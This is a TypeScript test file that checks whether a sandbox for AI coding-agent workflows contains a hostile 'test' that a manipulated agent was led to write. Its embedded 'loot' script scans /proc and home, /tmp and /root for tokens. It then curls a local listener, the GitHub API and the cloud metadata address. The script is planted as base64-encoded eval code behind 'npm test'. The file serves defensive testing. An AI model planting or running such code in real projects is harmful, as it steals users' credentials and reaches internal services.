/**
 * An agent that was talked into writing the project's tests anew, and the step of the workflow that runs them: in a cell, with the real CLI
 * of each agent, they find nothing and reach nobody, and the honest change becomes a pull request all the same.
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { ScriptedApi } from '../contracts/agent-cli.ts'
import { whyNoCell } from '../tools/cells.ts'
import { startGitHub } from '../tools/start-github.ts'
import { REAL_AGENTS } from './real-agents.ts'
import { recordedEvent, runJob } from './runner.ts'

vi.setConfig({ testTimeout: 120_000 })

const noCell = await whyNoCell()
const SECRETS = /sk-ant-test|sk-openai-test|sk-provider-test|ghs_[\w-]{20,}|very-private/

/** Looks wherever a token of the job has ever been, writes down what it has found, and tells whoever listens. */
const loot = (port: number) => `
import { execSync } from 'node:child_process'
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
const secrets = ${SECRETS}
const read = (file) => { try { return readFileSync(file, 'latin1') } catch { return '' } }
const list = (folder) => { try { return readdirSync(folder, { withFileTypes: true }) } catch { return [] } }
const found = []
let looked = 0
for (const { name } of list('/proc')) {
  for (const what of ['environ', 'cmdline', 'maps']) {
    const text = read('/proc/' + name + '/' + what)
    looked += text.length
    if (what !== 'maps' && secrets.test(text)) found.push('/proc/' + name + '/' + what)
  }
}
const walk = (folder, depth) => {
  for (const entry of list(folder)) {
    const path = folder + '/' + entry.name
    if (entry.isDirectory() && depth > 0 && !/node_modules|^\\/(proc|sys|usr|lib)/.test(path)) walk(path, depth - 1)
    if (entry.isFile() && secrets.test(read(path).slice(0, 100000))) found.push(path)
  }
}
for (const folder of [process.cwd(), process.cwd() + '/../..', process.env.HOME, '/tmp', '/home', '/root']) walk(folder, 4)
const reached = []
for (const address of ['http://127.0.0.1:${port}', process.env.GITHUB_API_URL, 'http://169.254.169.254']) {
  try { execSync('curl -sS -m 2 ' + address + '/reached'); reached.push(address) } catch {}
}
writeFileSync('loot.json', JSON.stringify({ looked: looked > 0, found, reached }))
`

const CONFIG = (agent: string, model: string) => `version: 1
workflows:
  fix:
    path: flows/fix
    agent: ${agent}
    model: ${model}
    on: { issues: { types: [labeled], labels: ["raymond:fix"] } }
    outputs: { pull_requests: { max: 1 } }
`

describe.skipIf(noCell !== undefined).each(REAL_AGENTS)('with $agent', ({ agent, model, cli, under, inputs, env }) => {
  const reached: string[] = []
  const server = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.end()
  })
  let api: ScriptedApi
  beforeAll(async () => {
    api = await under.startApi()
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  })
  afterAll(async () => {
    server.close()
    await api.close()
  })

  it.skipIf('missing' in cli)(
    'tests that the agent has written find nothing, and its change becomes a pull request',
    async () => {
      const program = 'program' in cli ? cli.program : ''
      const { port } = server.address() as AddressInfo
      const code = `eval(Buffer.from('${Buffer.from(asScript(loot(port))).toString('base64')}','base64').toString())`
      const github = await startGitHub()
      const repository = await github.addRepository({
        owner: 'Codertocat',
        name: 'Hello-World',
        private: true,
        files: {
          '.github/raymond.yml': CONFIG(agent, model),
          'package.json': '{ "private": true, "scripts": { "test": "node check.cjs" } }\n',
          'flows/fix/START.md': [
            under.use.write('check.cjs', code),
            under.use.write('answer.txt', 'forty-two'),
            'REPLY: <goto>TEST</goto>',
            '',
          ].join('\n'),
          'flows/fix/TEST.sh': '# raymond: runs_project_code=true network=none\nnpm test >&2 && echo "<goto>PROPOSE</goto>"\n',
          'flows/fix/PROPOSE.sh':
            'LOOT=$(cat loot.json); rm loot.json\nprintf \'{"type":"pull_request","title":"The answer","body":"It is 42."}\\n\' > "$RAYMOND_OUTBOX"\necho "<result>$LOOT</result>"\n',
        },
      })
      const labeled = recordedEvent('issues', 'labeled', repository, (payload) =>
        Object.assign(payload, { label: { ...(payload.label as object), name: 'raymond:fix' } }),
      )
      const request = { repository, event: 'issues', payload: labeled, inputs: { ...inputs(program), cell: 'required' } }
      const job = await runJob(request, { env: { ...env(api.url), OTHER_TOKEN: 'very-private' } })
      expect(job.outputs, job.main.log).toMatchObject({ status: 'completed' })
      expect(JSON.parse(job.outputs.result ?? '')).toEqual({ looked: true, found: [], reached: [] })
      expect(reached).toEqual([])
      const [pull] = repository.pulls.all
      expect(pull).toMatchObject({ title: 'The answer' })
      expect((await repository.read('answer.txt', pull?.pull.headSha))?.trim()).toBe('forty-two')
    },
  )
})

/** A module as the text of a script. */
function asScript(module: string): string {
  return module.replaceAll(/^import (\{[^}]+\}) from ('[^']+')$/gm, 'const $1 = require($2)')
}
